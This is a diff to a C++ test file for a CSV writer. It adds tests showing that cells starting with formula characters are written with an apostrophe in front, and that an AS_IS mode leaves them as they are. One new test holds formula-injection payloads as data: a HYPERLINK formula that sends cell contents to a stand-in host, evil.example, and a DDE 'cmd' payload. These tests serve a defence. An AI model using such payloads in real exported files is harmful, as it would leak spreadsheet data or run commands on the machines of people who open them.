@@ -391,7 +391,7 @@ TEST_CASE("whatever the writer writes the reader reads back exactly", "[csv][pro
     }
     std::ostringstream out;
     if (bom) out << "\xEF\xBB\xBF";
-    Writer writer(out, crlf);
+    Writer writer(out, crlf, Formulas::AS_IS);  // the round trip of RFC 4180 itself
     for (auto& row : rows) writer.row(row);
 
     auto got = readAll(out.str());
@@ -413,7 +413,7 @@ TEST_CASE("whatever the writer writes the reader reads back exactly", "[csv][pro
 TEST_CASE("line numbers count the line breaks inside earlier quoted fields", "[csv][property]") {
   std::mt19937_64 rng(7);
   std::ostringstream out;
-  Writer writer(out);
+  Writer writer(out, false, Formulas::AS_IS);
   std::vector<uint64_t> expectedLines;
   uint64_t line = 1;
   for (int r = 0; r < 300; ++r) {
@@ -430,6 +430,27 @@ TEST_CASE("line numbers count the line breaks inside earlier quoted fields", "[c
   auto got = readAll(out.str());
   REQUIRE(got.size() == expectedLines.size());
   for (size_t i = 0; i < got.size(); ++i) CHECK(got[i].line == expectedLines[i]);
+}
+
+TEST_CASE("cells a spreadsheet would run as formulas are written as text", "[csv]") {
+  std::ostringstream out;
+  Writer writer(out);
+  writer.row({"=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+              "\tx", "\rx", "plain", "a=b"});
+  CHECK(out.str() ==
+        "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"x\"\")\",\"'+cmd|' /C calc'!A0\",\"'-2+3\","
+        "\"'@SUM(A1)\",\"'\tx\",\"'\rx\",plain,a=b\n");
+  // Read back, each defused cell is its value behind an apostrophe: nothing is lost.
+  auto got = readAll(out.str());
+  REQUIRE(got.size() == 1);
+  CHECK(got[0].fields[1] == "'+cmd|' /C calc'!A0");
+}
+
+TEST_CASE("a writer asked for cells as they are leaves formulas alone", "[csv]") {
+  std::ostringstream out;
+  Writer writer(out, false, Formulas::AS_IS);
+  writer.row({"+33 6 12 34 56 78", "=1"});
+  CHECK(out.str() == "+33 6 12 34 56 78,=1\n");
 }
 
 }  // namespace
